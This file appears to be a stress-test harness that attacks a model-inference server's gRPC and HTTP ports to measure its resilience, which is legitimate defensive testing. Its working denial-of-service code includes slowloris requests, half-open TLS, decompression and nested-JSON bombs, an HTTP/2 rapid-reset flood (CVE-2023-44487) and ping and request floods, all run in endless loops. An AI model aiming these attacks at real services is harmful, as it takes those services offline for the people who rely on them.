"""Attacks on the serving ports, one at a time: `python -m tests.e2e.serving_attackers NAME GRPC HTTP CERTIFICATE KEY`.

Each goes on until it is killed, and is made again when the server ends it. HTTP/2 is written by hand (RFC 9113): no
client library does these things. It takes of the processor only what nobody else wants, as if it ran elsewhere: what is
measured is what the server does for it, not its own share of the same cores.
"""

import gzip
import os
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

MIB = 2**20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_HEADERS = 4
INFER = "/inference.GRPCInferenceService/ModelInfer"


@dataclass(frozen=True)
class Victim:
    """Where the server is, and what an attacker has of it."""

    grpc: tuple[str, int]
    http: tuple[str, int]
    certificate: str
    key: str

    def connect(self, address: tuple[str, int], protocol: str) -> ssl.SSLSocket:
        """A connection that speaks TLS."""
        context = ssl.create_default_context(cafile=self.certificate)
        context.check_hostname = False
        context.set_alpn_protocols([protocol])
        return context.wrap_socket(socket.create_connection(address, 5))

    def half_open(self, address: tuple[str, int]) -> socket.socket:
        """A connection that says nothing."""
        return socket.create_connection(address, 5)

    def head(self, length: int, more: str = "") -> bytes:
        """The head of a request for an inference over HTTP."""
        lines = ("POST /v2/models/twice/infer HTTP/1.1", "Host: x", f"Authorization: Bearer {self.key}")
        return ("\r\n".join((*lines, f"Content-Length: {length}")) + f"\r\n{more}\r\n").encode()

    def call(self, stream: int) -> bytes:
        """The frame that begins a call of ModelInfer."""
        named = ((":method", "POST"), (":scheme", "https"), (":path", INFER), (":authority", "x"))
        more = (("content-type", "application/grpc"), ("te", "trailers"), ("authorization", f"Bearer {self.key}"))
        return frame(HEADERS, END_HEADERS, stream, b"".join(_literal(*pair) for pair in (*named, *more)))


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(content))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + content


def _literal(name: str, value: str) -> bytes:
    """A header as HPACK has it without any compression (RFC 7541, 6.2.2)."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def slow_http(victim: Victim) -> None:
    """Hundreds of requests over HTTP that never come to their end: half heads, and half bodies."""
    half_head = b"POST /v2/models/twice/infer HTTP/1.1\r\nHost: x\r\nX-"
    _keep([lambda: _said(victim.connect(victim.http, "http/1.1"), half_head)] * 20)
    _keep([lambda: _said(victim.connect(victim.http, "http/1.1"), victim.head(MIB) + b"{")] * 20)
    _hold([lambda: _said(victim.connect(victim.http, "http/1.1"), half_head)] * 150)


def slow_grpc(victim: Victim) -> None:
    """Hundreds of calls whose message never comes."""
    calls = b"".join(victim.call(stream) for stream in range(1, 200, 2))
    _hold([lambda: _said(_http2(victim), calls)] * 4)


def half_open_tls(victim: Victim) -> None:
    """Connections that never begin TLS, or stop in the middle of its first message."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    for address in (victim.http, victim.grpc):
        _keep([lambda to=address: _said(victim.half_open(to), hello)] * 100)  # type: ignore[misc]
    _hold([lambda: victim.half_open(victim.http)] * 100)


def large_messages(victim: Victim) -> None:
    """64 MiB each, over both."""

    def over_http() -> socket.socket:
        return _said(victim.connect(victim.http, "http/1.1"), victim.head(64 * MIB), bytes(64 * MIB))

    def over_grpc() -> socket.socket:
        message = b"\0" + struct.pack(">I", 64 * MIB)
        frames = [frame(DATA, 0, 1, (message + bytes(16384))[:16384])] + [frame(DATA, 0, 1, bytes(16384))] * 4096
        return _said(_http2(victim), victim.call(1), *frames)

    _again(over_http, over_http, over_grpc, over_grpc)


def bombs(victim: Victim) -> None:
    """Small bodies that become large: gzip of zeros, deep JSON, very many numbers, also where nobody reads them."""
    numbers = b'{"inputs":[{"name":"x","shape":[1,4],"datatype":"FP32","data":[' + b"1," * (2 * MIB) + b"1]}]}"
    contents = (
        (gzip.compress(bytes(64 * MIB)), "Content-Encoding: gzip\r\n"),
        (b"[" * (4 * MIB), ""),
        (b'{"inputs":' * (MIB // 4), ""),
        (numbers, ""),
        (gzip.compress(numbers), "Content-Encoding: gzip\r\n"),
        (b'{"more":[' + b"1," * (MIB // 5) + b"1]}", ""),
    )

    def ask(content: bytes, coding: str) -> socket.socket:
        connection = _said(victim.connect(victim.http, "http/1.1"), victim.head(len(content), coding), content)
        connection.recv(4096)
        return connection

    _again(*((lambda body=body, coding=coding: ask(body, coding)) for body, coding in contents))


def rapid_reset(victim: Victim) -> None:
    """Calls that are taken back at once (CVE-2023-44487), as fast as they can be written."""
    reset = struct.pack(">I", 8)

    def reset_all() -> socket.socket:
        connection = _http2(victim)
        for stream in range(1, 2_000_000, 200):
            own = range(stream, stream + 200, 2)
            _sent(connection, b"".join(victim.call(one) + frame(RST_STREAM, 0, one, reset) for one in own))
        return connection

    _again(reset_all, reset_all)


def pings(victim: Victim) -> None:
    """Pings and settings, each of which wants an answer."""
    many = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500

    def ping() -> socket.socket:
        connection = _http2(victim)
        for _ in range(1000):
            _sent(connection, many)
        return connection

    _again(ping, ping)


def flood(victim: Victim) -> None:
    """Whole requests of one key, on many connections, never waiting for an answer."""
    body = b'{"inputs":[{"name":"x","shape":[1,4],"datatype":"FP32","data":[1,2,3,4]}]}'
    asked = (victim.head(len(body)) + body) * 20

    def over_http() -> socket.socket:
        connection = victim.connect(victim.http, "http/1.1")
        for _ in range(100):
            _sent(connection, asked)
        return connection

    def over_grpc() -> socket.socket:
        from protos.inference import grpc_service_pb2 as oip

        tensor = oip.ModelInferRequest.InferInputTensor(name="x", datatype="FP32", shape=[1, 4])
        raw = oip.ModelInferRequest(model_name="twice", inputs=[tensor], raw_input_contents=[bytes(16)])
        message = b"\0" + struct.pack(">I", raw.ByteSize()) + raw.SerializeToString()
        connection = _http2(victim)
        for stream in range(1, 100_000, 100):
            own = range(stream, stream + 100, 2)
            _sent(connection, b"".join(victim.call(one) + frame(DATA, 1, one, message) for one in own))
        return connection

    _again(over_http, over_http, over_grpc, over_grpc)


def computing(_: Victim) -> None:
    """No attack: only the processor is used, as attackers use it."""
    while True:
        sum(range(10_000))


ATTACKS: dict[str, Callable[[Victim], None]] = {
    attack.__name__: attack
    for attack in (slow_http, slow_grpc, half_open_tls, large_messages, bombs, rapid_reset, pings, flood)
}


def _http2(victim: Victim) -> ssl.SSLSocket:
    connection = victim.connect(victim.grpc, "h2")
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def _said(connection: socket.socket, *content: bytes) -> socket.socket:
    """The connection, with this written on it."""
    for each in content:
        connection.sendall(each)
    return connection


def _sent(connection: ssl.SSLSocket, content: bytes) -> None:
    """Write, and read away what has come, so that the server can go on writing."""
    connection.sendall(content)
    connection.settimeout(0.0)
    try:
        while connection.recv(65536):
            pass
    except ssl.SSLWantReadError:
        connection.settimeout(5.0)


_kept: list[socket.socket] = []


def _keep(openings: list[Callable[[], socket.socket]]) -> None:
    """Open connections and leave them."""
    for opening in openings:
        with suppress(OSError):
            _kept.append(opening())


def _hold(openings: list[Callable[[], socket.socket]]) -> None:
    """The same again and again: those that the server has closed are replaced."""
    while True:
        _keep(openings)
        time.sleep(0.5)
        del _kept[:-1500]


def _again(*attacks: Callable[[], socket.socket]) -> None:
    """Each in a thread of its own, without an end."""

    def run(attack: Callable[[], socket.socket]) -> None:
        while True:
            try:
                attack().close()
            except OSError:
                time.sleep(0.01)  # the server has hung up

    threads = [threading.Thread(target=run, args=(attack,), daemon=True) for attack in attacks]
    for thread in threads:
        thread.start()
    threads[0].join()


def _give_way() -> None:
    """To be as good as elsewhere. Where sessions are scheduled as groups, the group's priority counts (sched(7)).

    A benchmark with `--realtime` is before everybody: there, not to be part of it gives way enough.
    """
    if os.sched_getscheduler(0) != os.SCHED_OTHER:
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
        return
    os.nice(19)
    with suppress(OSError):
        Path("/proc/self/autogroup").write_text("19", encoding="ascii")


def main(arguments: list[str]) -> None:
    """Attack."""
    name, grpc, http, certificate, key = arguments
    _give_way()
    places = [(host, int(port)) for host, _, port in (one.rpartition(":") for one in (grpc, http))]
    {**ATTACKS, "computing": computing}[name](Victim(places[0], places[1], certificate, key))


if __name__ == "__main__":
    main(sys.argv[1:])
